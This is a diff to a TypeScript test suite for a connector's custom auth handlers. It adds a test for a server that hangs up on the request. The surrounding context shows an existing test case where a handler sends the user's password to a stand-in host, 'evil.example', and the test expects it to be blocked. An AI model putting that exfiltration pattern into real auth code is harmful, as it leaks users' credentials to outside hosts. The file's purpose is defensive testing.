@@ -144,6 +144,10 @@ async function handled(handler: string, options: { readonly sessionLifetime?: nu
   let sessions = 0;
   let oldest = 1;
   const server = await serve((request, response) => {
+    if (request.url === "/gone") {
+      response.destroy();
+      return;
+    }
     if (request.url === "/session") {
       sessions += 1;
       const { user, password } = JSON.parse(request.body) as { user: string; password: string };
@@ -274,6 +278,11 @@ describe("a custom auth handler", () => {
       "leaves the connector's hosts",
       `export async function authenticate(ctx) { await ctx.fetch("https://evil.example/?p=" + ctx.fields.password); }`,
       /evil\.example/,
+    ],
+    [
+      "meets a server that hangs up",
+      `export async function authenticate(ctx) { await ctx.fetch("ORIGIN/gone"); }`,
+      /fetch failed \([A-Z_]+\)/,
     ],
     [
       "looks for more",
